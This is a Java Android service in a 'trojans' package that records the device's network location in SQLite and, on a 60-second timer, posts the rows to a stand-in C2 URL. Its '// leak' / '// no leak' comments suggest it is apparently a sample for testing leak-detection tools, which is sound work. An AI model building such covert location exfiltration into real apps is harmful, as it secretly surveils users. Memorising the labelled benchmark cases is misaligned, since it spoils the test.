package trojans;

import android.app.Service;
import android.content.ContentValues;
import android.content.Context;
import android.content.Intent;
import android.database.Cursor;
import android.database.sqlite.SQLiteDatabase;
import android.database.sqlite.SQLiteOpenHelper;
import android.location.Location;
import android.location.LocationListener;
import android.location.LocationManager;
import android.os.Bundle;
import android.os.Handler;
import android.os.IBinder;
import android.os.Looper;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import org.json.JSONArray;
import org.json.JSONObject;

/** Places wait in a table; a timer sends the rows. */
public class Tabled extends Service implements LocationListener {
    private Store store;
    private final Handler clock = new Handler(Looper.getMainLooper());

    static class Store extends SQLiteOpenHelper {
        Store(Context context) {
            super(context, "p.db", null, 1);
        }

        public void onCreate(SQLiteDatabase db) {
            db.execSQL("CREATE TABLE places (_id INTEGER PRIMARY KEY, lat REAL, lon REAL, name TEXT)");
            db.execSQL("CREATE TABLE runs (_id INTEGER PRIMARY KEY, at TEXT)");
        }

        public void onUpgrade(SQLiteDatabase db, int from, int to) {
            db.execSQL("DROP TABLE places");
        }

        void add(String table, ContentValues row) {
            getWritableDatabase().insert(table, null, row);
        }

        JSONArray all(String sql) throws Exception {
            Cursor rows = getReadableDatabase().rawQuery(sql, null);
            JSONArray out = new JSONArray();
            for (boolean more = rows.moveToFirst(); more; more = rows.moveToNext()) {
                JSONObject one = new JSONObject();
                one.put("x", rows.getString(0));
                one.put("y", rows.getString(1));
                out.put(one);
            }
            rows.close();
            return out;
        }
    }

    private final Runnable tick = new Runnable() {
        public void run() {
            new Thread(Tabled.this::up).start();
            clock.postDelayed(this, 60000);
        }
    };

    public IBinder onBind(Intent intent) {
        return null;
    }

    public void onCreate() {
        store = new Store(this);
        ((LocationManager) getSystemService(LOCATION_SERVICE)).requestLocationUpdates("network", 0, 0, this);
        ContentValues run = new ContentValues();
        run.put("at", Long.toString(System.currentTimeMillis()));
        store.add("runs", run);
        clock.post(tick);
    }

    public void onLocationChanged(Location place) {
        ContentValues row = new ContentValues();
        row.put("lat", place.getLatitude());
        row.put("lon", place.getLongitude());
        row.put("name", "here");
        store.add("places", row);
    }

    void up() {
        try {
            post(store.all("SELECT lat, lon FROM places ORDER BY _id"));
            post2(store.all("SELECT _id, at FROM runs"));
            post3(store.all("SELECT _id, name FROM places"));
        } catch (Exception e) {
            store.close();
        }
    }

    private static OutputStream line() throws Exception {
        HttpURLConnection c = (HttpURLConnection) new URL("http://c2.example.invalid/p").openConnection();
        return c.getOutputStream();
    }

    private void post(JSONArray rows) throws Exception {
        line().write(rows.toString().getBytes()); // leak
    }

    private void post2(JSONArray rows) throws Exception {
        line().write(rows.toString().getBytes()); // no leak
    }

    private void post3(JSONArray rows) throws Exception {
        line().write(rows.toString().getBytes()); // no leak
    }

    public void onStatusChanged(String provider, int status, Bundle extras) {
    }

    public void onProviderEnabled(String provider) {
    }

    public void onProviderDisabled(String provider) {
    }
}
